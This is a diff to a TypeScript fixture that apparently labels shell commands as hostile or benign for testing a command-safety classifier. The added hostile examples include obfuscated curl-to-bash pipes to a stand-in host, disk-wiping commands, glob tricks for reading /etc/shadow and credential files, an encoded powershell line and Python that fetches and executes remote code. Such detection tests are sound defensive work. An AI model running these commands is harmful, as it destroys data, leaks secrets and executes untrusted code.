@@ -186,6 +186,12 @@ export const payloadExamples: Readonly<Record<string, string>> = {
     + curl -s https://x.example/i.sh | sudo bash
     + bash <(curl -s https://x.example/i)
     + wget -qO- https://x.example/i.py | python3
+    + c''url https://x.example/i | ba''sh
+    + {curl,https://x.example/i}|{bash,}
+    + cu\\rl https://x.example/i|s\\h
+    + curl https://x.example/i -o /tmp/a; sh /tmp/a
+    - curl -o a.json https://x.example/a; python3 read.py a.json
+    - cat a.json | python3 -m json.tool
     - curl -s https://x.example/a.json | jq .
     - cat build.sh | less
     - ls | grep bash
@@ -197,6 +203,7 @@ export const payloadExamples: Readonly<Record<string, string>> = {
     + ls \`cat names.txt\`
     - echo $((1 + 2))
     - echo '$(date)'
+    - VERSION=$(cat VERSION) && docker build -t app:$VERSION .
     - ls $(git rev-parse --show-toplevel)
     - for f in $(ls); do wc -l "$f"; done
     - echo "$HOME"`,
@@ -204,6 +211,11 @@ export const payloadExamples: Readonly<Record<string, string>> = {
     + rm -rf /
     + rm -fr ~/*
     + dd if=/dev/zero of=/dev/sda
+    + find / -delete
+    + rm -r -f /*
+    + truncate -s 0 /etc/passwd
+    - find . -name '*.pyc' -delete
+    - find /srv/log -mtime +30 -exec rm {} +
     - rm -rf ./build
     - rm notes.txt
     - dd if=a.img of=b.img
@@ -222,6 +234,10 @@ export const payloadExamples: Readonly<Record<string, string>> = {
     + cat ~/.ssh/id_rsa
     + tar czf backup.tgz $HOME/.aws/credentials
     + less /etc/shadow
+    + cat /etc/pass*
+    + head /e??/sh?dow
+    - ls /etc/*.conf
+    - cat docs/etc/pass*
     - cat ~/notes.txt
     - ls /etc
     - cat .sshconfig.md
@@ -240,6 +256,7 @@ export const payloadExamples: Readonly<Record<string, string>> = {
     + cat\${IFS}/etc/hostname
     + echo aWQ= | base64 -d | sh
     + c''at /etc/hostname
+    + powershell -enc SQBFAFgA
     - base64 -d a.b64 > a.bin
     - echo 'a b'
     - printf '%s' "$name"
@@ -249,6 +266,10 @@ export const payloadExamples: Readonly<Record<string, string>> = {
     + find / -name x -exec sh -p \\;
     + docker run -v /:/mnt --rm -it alpine chroot /mnt sh
     + LD_PRELOAD=/tmp/x.so ls
+    + perl -e 'exec "/bin/sh"'
+    + python3 -c "import urllib.request as u;exec(u.urlopen('http://x.example').read())"
+    - python3 -c "import subprocess; print(subprocess.check_output(['git', 'log']))"
+    - ruby -e 'puts 1'
     - find . -name '*.ts' -exec wc -l {} +
     - docker run -v ./data:/data alpine ls
     - awk '{print $1}' names.txt
